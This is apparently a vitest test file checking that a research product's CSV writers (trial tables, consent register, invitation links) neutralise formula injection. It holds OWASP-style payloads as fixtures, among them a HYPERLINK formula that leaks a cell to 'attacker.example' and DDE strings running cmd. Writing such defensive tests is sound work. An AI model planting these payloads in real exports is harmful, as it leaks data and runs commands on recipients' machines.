import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { consentRegisterCsv } from "@/lib/consent/consentRegisterCsv";
import { csvField, csvLine, FORMULA_TRIGGERS } from "@/lib/csv/csvField";
import { formatTrialCsv } from "@/lib/motion/simulate";
import { invitationsCsv } from "@/lib/recruitment/invitationsCsv";
import { toTrialCsv, type TrialRow } from "@/lib/trials";

// Payloads in the shape OWASP's "CSV Injection" page shows (formula, DDE, @-function, leading
// tab/CR); each must come back from an RFC 4180 reader (csv-parse, npm) as text: a single quote
// and then the payload unchanged. Numbers, negative ones included, stay numbers.
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const cell = (text: string): string => (parse(text, { relax_quotes: false }) as string[][])[0]![0]!;

describe("csvField (OWASP CSV Injection)", () => {
  it("names exactly OWASP's trigger characters", () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual(["\t", "\r", "+", "-", "=", "@"].sort());
  });

  it.each(PAYLOADS)("neutralises %j: read back as ' + the payload", (payload) => {
    expect(cell(csvField(payload))).toBe(`'${payload}`);
  });

  it("leaves ordinary text, numbers and negative numbers as they are (RFC 4180 quoting only)", () => {
    expect(csvField("motion / gain 6")).toBe("motion / gain 6");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField(-128.5)).toBe("-128.5");
    expect(csvField(Number.NaN)).toBe("");
    expect(parse(csvLine(["x", -1, "=1", null]))).toEqual([["x", "-1", "'=1", ""]]);
  });
});

describe("every CSV writer of the product neutralises a formula", () => {
  const evil = PAYLOADS[0]!;
  const row: TrialRow = {
    participant: evil, condition: evil, block: 1, sequence: 1, trial: 1, amplitude: 100, width: 10,
    fromX: 0, fromY: 0, toX: 100, toY: 0, startX: 0, startY: 0, endX: -99, endY: 1, timeMs: 700, hit: true, factors: { technique: evil },
  };
  const cellsOf = (csv: string): string[] => (parse(csv, { from_line: 2 }) as string[][]).flat();

  it("the trial table (archive trials.csv, analysis imports)", () => {
    const cells = cellsOf(toTrialCsv([row]));
    expect(cells.filter((c) => c === `'${evil}`)).toHaveLength(3);
    expect(cells).toContain("-99");
  });

  it("the simulated participant's trial table", () => {
    const cells = cellsOf(formatTrialCsv([{ participant: evil, condition: "c", block: 1, sequence: 1, trial: 1, amplitude: 1, width: 1, from_x: 0, from_y: 0, to_x: 1, to_y: 0, start_x: 0, start_y: 0, end_x: -1, end_y: 0, time_ms: 500, hit: 1 }]));
    expect(cells[0]).toBe(`'${evil}`);
    expect(cells).toContain("-1");
  });

  it("the consent register (a typed name) and the invitation links", () => {
    const register = consentRegisterCsv([{ participantCode: "P-ABCDEF", status: "consented", version: 1, versionHash: "a".repeat(64), documentHash: null, signedAt: new Date(0), withdrawnAt: null, erasedAt: null, typedName: evil, agreed: ["s1"] }]);
    expect(cellsOf(register)).toContain(`'${evil}`);
    expect(cellsOf(invitationsCsv([{ code: "@P-1", link: "https://x.example/s/t", completionCode: "=1+1" }]))).toEqual(["'@P-1", "https://x.example/s/t", "'=1+1"]);
  });
});
